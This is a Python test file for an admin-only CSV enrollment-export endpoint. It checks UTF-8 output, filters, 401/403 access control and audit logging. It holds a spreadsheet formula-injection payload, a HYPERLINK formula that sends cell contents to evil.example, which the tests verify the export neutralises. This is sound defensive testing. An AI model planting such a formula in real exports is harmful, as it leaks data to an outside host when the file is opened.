"""`GET /admin/enrollments.csv`: the search's matches as UTF-8 CSV with a header row, formulas
neutralised, admins only (401/403 otherwise), and every download in the audit log."""

from __future__ import annotations

import csv
import io
import json

import httpx2 as httpx

from domain.export import HEADER
from domain.viewer import Role
from tests.realtime.wsclient import CREATE_COURSE, enroll_eft
from tests.servers import GraphQLClient, RunningApp

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def course(gql: GraphQLClient, running: RunningApp, course_id: str, title: str) -> None:
    admin = running.token("admin-setup", Role.ADMIN)
    body = await gql(CREATE_COURSE, {"input": {"id": course_id, "title": title, "price": 12345}}, admin)
    assert body["data"]["createCourse"]["errors"] == [], body


def table(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


async def test_export_is_utf8_csv_with_formulas_neutralised(
    gql: GraphQLClient, http: httpx.AsyncClient, running: RunningApp
) -> None:
    await course(gql, running, "csv-evil", EVIL)
    await course(gql, running, "csv-cafe", "Café für Anfänger")
    evil = await enroll_eft(gql, running.token("stu-csv-1", email="@attacker+1@example.org"), "csv-evil")
    await enroll_eft(gql, running.token("stu-csv-2", email="zoë@example.org"), "csv-cafe")
    admin = {"Authorization": f"Bearer {running.token('admin-csv', Role.ADMIN)}"}

    rows = table(await http.get("/admin/enrollments.csv", headers=admin))
    assert rows[0] == list(HEADER)
    by_course = {row[HEADER.index("courseId")]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    assert set(by_course) == {"csv-evil", "csv-cafe"}
    assert by_course["csv-evil"]["enrollmentId"] == evil["id"]
    assert by_course["csv-evil"]["courseTitle"] == "'" + EVIL
    assert by_course["csv-evil"]["email"] == "'@attacker+1@example.org"
    assert by_course["csv-cafe"]["courseTitle"] == "Café für Anfänger"
    assert by_course["csv-cafe"]["email"] == "zoë@example.org"
    assert by_course["csv-cafe"]["amountDue"] == "123.45"

    # The same filters as the GraphQL search.
    rows = table(
        await http.get(
            "/admin/enrollments.csv", params={"email": "ZO", "status": "AWAITING_APPROVAL"}, headers=admin
        )
    )
    assert [row[HEADER.index("courseId")] for row in rows[1:]] == ["csv-cafe"]
    rows = table(await http.get("/admin/enrollments.csv", params={"courseId": "none-such"}, headers=admin))
    assert rows == [list(HEADER)]

    audit = running.app.runtime.collections.audit
    entries = [doc async for doc in audit.find({"action": "exportEnrollments"}).sort("createdAt", 1)]
    assert [doc["actor"] for doc in entries] == [{"kind": "ADMIN", "id": "admin-csv"}] * 3
    assert json.loads(entries[1]["detail"]) == {"email_prefix": "zo", "status": "AWAITING_APPROVAL"}


async def test_only_admins_download(http: httpx.AsyncClient, running: RunningApp) -> None:
    cases = {
        None: 401,
        "Bearer not-a-token": 401,
        "Basic abc": 401,
        f"Bearer {running.token('stu-csv')}": 403,
    }
    for header, status in cases.items():
        headers = {} if header is None else {"Authorization": header}
        response = await http.get("/admin/enrollments.csv", headers=headers)
        assert response.status_code == status, (header, response.text)
        assert response.json()["error"]["code"] == ("UNAUTHENTICATED" if status == 401 else "FORBIDDEN")
    audit = running.app.runtime.collections.audit
    assert await audit.count_documents({"action": "exportEnrollments"}) == 0


async def test_a_bad_filter_is_400_and_no_download(http: httpx.AsyncClient, running: RunningApp) -> None:
    admin = {"Authorization": f"Bearer {running.token('admin-csv', Role.ADMIN)}"}
    for params in (
        "status=PAID",
        "createdFrom=yesterday",
        "sort=email",
        "status=APPROVED&status=REJECTED",
        "createdFrom=2026-03-02T00:00:00Z&createdTo=2026-03-01T00:00:00Z",
    ):
        response = await http.get("/admin/enrollments.csv", params=params, headers=admin)
        assert response.status_code == 400, (params, response.text)
        assert response.json()["error"]["code"] == "VALIDATION_FAILED"
    audit = running.app.runtime.collections.audit
    assert await audit.count_documents({"action": "exportEnrollments"}) == 0
